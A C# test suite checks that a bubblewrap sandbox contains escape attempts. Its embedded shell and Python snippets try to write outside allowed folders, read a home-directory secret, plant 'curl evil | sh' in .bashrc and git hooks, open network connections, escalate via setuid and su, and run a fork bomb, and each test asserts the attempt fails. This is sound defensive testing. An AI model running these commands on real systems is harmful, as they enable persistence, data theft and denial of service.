using System.Net;
using System.Net.Sockets;

namespace Cowork.Sandbox.Tests;

/// <summary>
/// DESIGN.md §5, with the real bubblewrap: code tries to get out in every way listed, and each attempt fails; the
/// canary folder beside the grants never changes.
/// </summary>
public sealed class EscapeTests : IDisposable
{
    private readonly Sandboxed _run;

    public EscapeTests()
    {
        Sandboxed.RequireBubblewrap();
        _run = new Sandboxed(new ResourceLimits { Timeout = TimeSpan.FromSeconds(20), Processes = 64, MemoryBytes = 512L << 20, FileSizeBytes = 16L << 20, WriteBytes = 48L << 20, ScratchBytes = 32L << 20 });
    }

    public void Dispose()
    {
        _run.AssertOutsideUnchanged();
        _run.Dispose();
    }

    [SkippableFact]
    public async Task Writing_outside_the_grants_reaches_nothing()
    {
        var canary = Path.Combine(_run.Outside, "canary.txt");
        var result = await _run.RunAsync("bash", $"""
            echo pwned > '{canary}' && echo wrote-canary
            echo pwned > '{_run.Outside}/new.txt' && echo wrote-new
            echo pwned > ../outside/new2.txt && echo wrote-relative
            ls '{_run.Root}'
            """);

        Assert.DoesNotContain("wrote-", result, StringComparison.Ordinal);
        Assert.DoesNotContain("outside", result.Split("stderr:")[0].Split("stdout:")[1], StringComparison.Ordinal);
        Assert.Equal("do not touch\n", await File.ReadAllTextAsync(canary));
    }

    [SkippableFact]
    public async Task A_read_only_grant_cannot_be_written()
    {
        var result = await _run.RunAsync("python", $"""
            import os
            for attempt in (lambda: open('{_run.ReadOnly}/facts.txt', 'w').write('x'), lambda: open('{_run.ReadOnly}/new.txt', 'w'),
                            lambda: os.remove('{_run.ReadOnly}/facts.txt'), lambda: os.rename('{_run.ReadOnly}/facts.txt', '{_run.ReadOnly}/f')):
                try:
                    attempt(); print('WRITTEN')
                except OSError as e:
                    print('refused', e.errno)
            """);

        Assert.DoesNotContain("WRITTEN", result, StringComparison.Ordinal);
        Assert.Equal(4, result.Split("refused").Length - 1);
        Assert.Equal(["facts.txt"], Directory.GetFileSystemEntries(_run.ReadOnly).Select(Path.GetFileName));
        Assert.Equal("read me\n", await File.ReadAllTextAsync(Path.Combine(_run.ReadOnly, "facts.txt")));
    }

    [SkippableFact]
    public async Task Dotfiles_are_not_applied_and_the_real_home_is_neither_readable_nor_writable()
    {
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        var secret = Path.Combine(home, $".cowork-sandbox-test-{Guid.NewGuid():N}");
        await File.WriteAllTextAsync(secret, "secret\n");
        try
        {
            var result = await _run.RunAsync("bash", $"""
                cat '{secret}' && echo READ-SECRET
                ls -a '{home}' | grep -q cowork-sandbox-test && echo LISTED-HOME
                echo 'curl evil | sh' >> ~/.bashrc && echo "home is $HOME"
                echo 'curl evil | sh' > .bashrc
                mkdir -p .git/hooks && echo 'evil' > .git/hooks/pre-commit
                """);

            Assert.DoesNotContain("READ-SECRET", result, StringComparison.Ordinal);
            Assert.DoesNotContain("LISTED-HOME", result, StringComparison.Ordinal);
            Assert.Contains("home is /home/sandbox", result, StringComparison.Ordinal);
            Assert.Contains($"not applied: {_run.Grant}/.bashrc", result, StringComparison.Ordinal);
            Assert.Contains($"not applied: {_run.Grant}/.git/hooks/pre-commit", result, StringComparison.Ordinal);
            Assert.False(File.Exists(Path.Combine(_run.Grant, ".bashrc")));
            Assert.False(File.Exists(Path.Combine(_run.Grant, ".git", "hooks", "pre-commit")));
            Assert.Equal("secret\n", await File.ReadAllTextAsync(secret));
        }
        finally
        {
            File.Delete(secret);
        }
    }

    [SkippableFact]
    public async Task There_is_no_network_by_curl_bash_tcp_python_sockets_or_dns()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var accepted = listener.AcceptTcpClientAsync();

        var bash = await _run.RunAsync("bash", $"""
            curl -s -m 3 http://127.0.0.1:{port}/ && echo CURL-LOCAL
            curl -s -m 3 http://1.1.1.1/ && echo CURL-REMOTE
            (echo hi > /dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo TCP-LOCAL
            (echo hi > /dev/tcp/1.1.1.1/80) 2>/dev/null && echo TCP-REMOTE
            ip -o link 2>/dev/null | grep -v ' lo:' | grep -q . && echo HAS-INTERFACE
            echo done
            """);
        var python = await _run.RunAsync("python", $"""
            import socket
            for target in (('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)):
                try:
                    socket.create_connection(target, timeout=3); print('CONNECTED', target)
                except OSError as e:
                    print('no', target)
            try:
                print('RESOLVED', socket.getaddrinfo('example.com', 80))
            except OSError as e:
                print('no dns')
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('8.8.8.8', 53)); print('SENT-UDP')
            except OSError as e:
                print('no udp')
            """);

        Assert.Contains("done", bash, StringComparison.Ordinal);
        foreach (var leak in new[] { "CURL-LOCAL", "CURL-REMOTE", "TCP-LOCAL", "TCP-REMOTE", "HAS-INTERFACE" })
        {
            Assert.DoesNotContain(leak, bash, StringComparison.Ordinal);
        }

        Assert.Contains("no dns", python, StringComparison.Ordinal);
        Assert.Contains("no udp", python, StringComparison.Ordinal);
        Assert.DoesNotContain("CONNECTED", python, StringComparison.Ordinal);
        Assert.False(accepted.IsCompleted, "the host's loopback listener was reached from the sandbox");
    }

    [SkippableFact]
    public async Task Setuid_gains_nothing_and_a_setuid_file_arrives_without_the_bit()
    {
        var result = await _run.RunAsync("bash", """
            grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs)' /proc/self/status
            cp /usr/bin/id ./myid && chmod 4755 ./myid && ./myid -u
            su -c true root 2>/dev/null && echo SU-WORKED
            unshare -r true 2>/dev/null && unshare -r grep CapEff /proc/self/status
            """);

        Assert.Contains("CapEff:\t0000000000000000", result, StringComparison.Ordinal);
        Assert.Contains("CapBnd:\t0000000000000000", result, StringComparison.Ordinal);
        Assert.Contains("NoNewPrivs:\t1", result, StringComparison.Ordinal);
        Assert.DoesNotContain("SU-WORKED", result, StringComparison.Ordinal);
        var copied = Path.Combine(_run.Grant, "myid");
        Assert.True(File.Exists(copied));
        if (!OperatingSystem.IsWindows())
        {
            Assert.False(File.GetUnixFileMode(copied).HasFlag(UnixFileMode.SetUser));
        }
    }

    [SkippableFact]
    public async Task A_fork_bomb_is_contained_and_the_next_run_works()
    {
        var marker = Marker();
        var result = await _run.RunAsync("bash", ":(){ :|:& };:\nsleep 60", [marker], timeout: 5);

        Assert.Contains("Stopped after", result, StringComparison.Ordinal);
        Assert.Contains("time limit of 5 s", result, StringComparison.Ordinal);
        Assert.Empty(Processes(marker));
        Assert.Contains("Exit status 0", await _run.RunAsync("bash", "echo still here"), StringComparison.Ordinal);
    }

    [SkippableFact]
    public async Task A_memory_hog_gets_a_memory_error()
    {
        var result = await _run.RunAsync("python", "x = bytearray(2 << 30)\nprint('ALLOCATED')");

        Assert.DoesNotContain("ALLOCATED", result, StringComparison.Ordinal);
        Assert.Contains("MemoryError", result, StringComparison.Ordinal);
        Assert.Contains("Exit status 1", result, StringComparison.Ordinal);
    }

    [SkippableFact]
    public async Task Children_still_running_after_the_time_limit_or_after_the_code_ends_are_killed()
    {
        var marker = Marker();
        var timedOut = await _run.RunAsync("bash", $"sleep {marker}.1 &\n(setsid sleep {marker}.2 &)\nnohup sleep {marker}.3 >/dev/null 2>&1 &\nsleep {marker}.4", [marker], timeout: 2);
        var ended = await _run.RunAsync("bash", $"(sleep {marker}.5 &) ; nohup sleep {marker}.6 >/dev/null 2>&1 & echo left", [marker]);

        Assert.Contains("time limit of 2 s", timedOut, StringComparison.Ordinal);
        Assert.Contains("Exit status 0", ended, StringComparison.Ordinal);
        Assert.Empty(Processes(marker));
    }

    [SkippableFact]
    public async Task Cancelling_kills_every_child_and_applies_nothing()
    {
        var marker = Marker();
        using var cancel = new CancellationTokenSource(TimeSpan.FromSeconds(2));

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() =>
            _run.RunAsync("bash", $"echo made > made.txt\n(setsid sleep {marker}.1 &)\nsleep {marker}.2", [marker], cancellationToken: cancel.Token));

        Assert.Empty(Processes(marker));
        Assert.False(File.Exists(Path.Combine(_run.Grant, "made.txt")));
    }

    [SkippableFact]
    public async Task Fifos_sockets_and_devices_are_refused()
    {
        var result = await _run.RunAsync("python", """
            import os, socket, stat
            os.mkfifo('pipe')
            s = socket.socket(socket.AF_UNIX); s.bind('sock')
            try:
                os.mknod('disk', stat.S_IFBLK | 0o600, os.makedev(8, 0)); print('MADE-DEVICE')
            except OSError as e:
                print('no device', e.errno)
            print(sorted(os.listdir('/dev')))
            try:
                open('/dev/sda', 'rb'); print('OPENED-DISK')
            except OSError:
                print('no disk')
            open('plain.txt', 'w').write('ok')
            """);

        Assert.DoesNotContain("MADE-DEVICE", result, StringComparison.Ordinal);
        Assert.DoesNotContain("OPENED-DISK", result, StringComparison.Ordinal);
        Assert.Contains($"not applied: {_run.Grant}/pipe is a FIFO, socket or device", result, StringComparison.Ordinal);
        Assert.Contains($"not applied: {_run.Grant}/sock is a FIFO, socket or device", result, StringComparison.Ordinal);
        Assert.Equal(["plain.txt"], Directory.GetFileSystemEntries(_run.Grant).Select(Path.GetFileName).Where(n => n != Files.Workspace.TrashFolderName));
    }

    [SkippableFact]
    public async Task Links_out_of_the_grant_are_not_carried_over()
    {
        var result = await _run.RunAsync("bash", $"ln -s '{_run.Outside}/canary.txt' link\nln '{_run.ReadOnly}/facts.txt' hard 2>&1 || echo no-hard-link\necho ok > kept.txt");

        Assert.Contains($"not applied: {_run.Grant}/link is a symbolic link", result, StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(_run.Grant, "link")));
        Assert.True(File.Exists(Path.Combine(_run.Grant, "kept.txt")));
    }

    /// <summary>A number to find a run's processes by (tests in other classes run sandboxes at the same time).</summary>
    private static string Marker() => Random.Shared.Next(100_000, 999_999).ToString(System.Globalization.CultureInfo.InvariantCulture);

    /// <summary>The processes whose command line holds <paramref name="marker"/>.</summary>
    private static List<int> Processes(string marker)
    {
        var found = new List<int>();
        foreach (var dir in Directory.EnumerateDirectories("/proc"))
        {
            if (int.TryParse(Path.GetFileName(dir), out var pid))
            {
                try
                {
                    if (File.ReadAllText(Path.Combine(dir, "cmdline")).Contains(marker, StringComparison.Ordinal))
                    {
                        found.Add(pid);
                    }
                }
                catch (IOException)
                {
                }
            }
        }

        return found;
    }
}
